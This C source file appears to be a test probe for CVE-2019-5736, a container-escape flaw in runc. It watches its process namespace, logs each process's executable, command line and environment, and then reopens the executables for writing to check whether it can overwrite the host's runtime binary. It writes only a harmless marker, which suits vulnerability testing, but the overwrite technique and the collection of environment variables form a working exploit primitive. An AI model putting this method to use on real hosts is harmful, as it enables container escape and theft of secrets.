/*
 * CVE-2019-5736 and its kin: watches the processes of its pid namespace as fast as it can and prints, each once,
 *
 *     exe LINK          where /proc/PID/exe leads, of processes that it can look into
 *     open LINK         such a program was opened, too
 *     cmdline WORDS     their command lines
 *     environ WORDS     their environments, of processes that it can look into
 *
 * and keeps the programs open, as a reader. When the file /stop appears it tries to write to each of them:
 *
 *     wrote LINK | denied LINK
 *
 *     watch_probe [FOLDER]     the stop file is FOLDER/stop; the default is /
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MANY 512

static char *seen[MANY];
static int seen_count;

static int is_new(const char *text)
{
	for (int i = 0; i < seen_count; i++)
		if (!strcmp(seen[i], text))
			return 0;
	if (seen_count == MANY)
		return 0;
	seen[seen_count++] = strdup(text);
	return 1;
}

static void show(const char *kind, const char *pid, const char *file)
{
	char path[64], text[4096], line[4200];
	snprintf(path, sizeof path, "/proc/%s/%s", pid, file);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t length = read(fd, text, sizeof text - 1);
	close(fd);
	while (length > 0 && text[length - 1] == 0)
		length--;
	if (length <= 0)
		return;
	for (ssize_t i = 0; i < length; i++)
		if (text[i] < ' ')
			text[i] = ' ';
	text[length] = 0;
	snprintf(line, sizeof line, "%s %s", kind, text);
	if (is_new(line))
		puts(line);
}

static struct { int fd; char link[4096]; } programs[MANY];
static int program_count;

static void keep(const char *pid)
{
	char path[64], link[4096], line[4200];
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	ssize_t length = readlink(path, link, sizeof link - 1);
	if (length <= 0)
		return;
	link[length] = 0;
	snprintf(line, sizeof line, "exe %s", link);
	if (is_new(line))
		puts(line);
	for (int i = 0; i < program_count; i++)
		if (!strcmp(programs[i].link, link))
			return;
	/* a process that has ended meanwhile is no loss: another of the same program may be slower */
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || program_count == MANY)
		return;
	/* it may have become another program between the two looks: then what was opened is that, and has its own turn */
	char own[64], opened[4096];
	snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
	ssize_t opened_length = readlink(own, opened, sizeof opened - 1);
	if (opened_length <= 0 || (opened[opened_length] = 0, strcmp(opened, link))) {
		close(fd);
		return;
	}
	programs[program_count].fd = fd;
	strcpy(programs[program_count++].link, link);
	printf("open %s\n", link);
}

static int overwrite(const char *link, int kept)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", kept);
	/* a program that still runs is busy: wait for its end, which a loaded machine may put off; that of pid 1 does not come */
	int tries = strncmp(link, "/memfd:", 7) ? 60000 : 1000;
	for (int i = 0; i < tries; i++, usleep(1000)) {
		int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd < 0 && errno == ETXTBSY)
			continue;
		if (fd < 0)
			return 0;
		ssize_t written = write(fd, "overwritten\n", 12);
		close(fd);
		return written == 12;
	}
	return 0;
}

int main(int argc, char **argv)
{
	char stop[4096];
	struct stat stat_buffer;
	snprintf(stop, sizeof stop, "%s/stop", argc > 1 ? argv[1] : "");
	setvbuf(stdout, NULL, _IOLBF, 0);
	pid_t self = getpid();
	puts("ready");
	while (stat(stop, &stat_buffer)) {
		DIR *folder = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(folder));) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == self)
				continue;
			keep(entry->d_name);
			show("cmdline", entry->d_name, "cmdline");
			show("environ", entry->d_name, "environ");
		}
		closedir(folder);
	}
	for (int i = 0; i < program_count; i++)
		printf("%s %s\n", overwrite(programs[i].link, programs[i].fd) ? "wrote" : "denied", programs[i].link);
}
